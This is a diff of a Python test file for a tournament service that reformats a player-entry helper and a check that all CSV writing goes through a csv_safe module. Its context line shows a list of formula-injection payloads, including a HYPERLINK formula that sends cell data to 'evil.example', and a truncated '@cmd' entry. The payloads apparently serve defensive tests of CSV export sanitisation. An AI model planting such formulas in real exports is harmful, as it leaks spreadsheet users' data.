@@ -21,8 +21,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,1)", "@cmd
 
 def _entered_with_deck(client, organiser: str, tid: str) -> tuple[str, str, str]:  # type: ignore[no-untyped-def]
     player = client.new_user_token()
-    pid = client.post(f"/v1/tournaments/{tid}/players", token=organiser,
-                      json={"user_id": user_id(client, player)}).get_json()["id"]  # fmt: skip
+    pid = client.post(
+        f"/v1/tournaments/{tid}/players", token=organiser, json={"user_id": user_id(client, player)}
+    ).get_json()["id"]
     deck = client.post("/v1/decks", token=player, json={"ruleset": "arcane", "name": "Burn", "cards": LEGAL_DECK})
     deck_id = deck.get_json()["id"]
     ok = client.post(f"/v1/tournaments/{tid}/players/{pid}/deck", token=player, json={"deck_id": deck_id})
@@ -109,6 +110,9 @@ def test_finding_11_every_formula_start_owasp_lists_is_neutralised(cell):
 def test_finding_11_every_csv_export_writes_through_csv_safe():
     """The print run's codes.csv and any export added later: no module but csv_safe writes CSV."""
     root = pathlib.Path(__file__).resolve().parents[2] / "service"
-    writers = [p.relative_to(root).as_posix() for p in root.rglob("*.py")
-               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]  # fmt: skip
+    writers = [
+        p.relative_to(root).as_posix()
+        for p in root.rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())
+    ]
     assert writers == ["platform/csv_safe.py"]
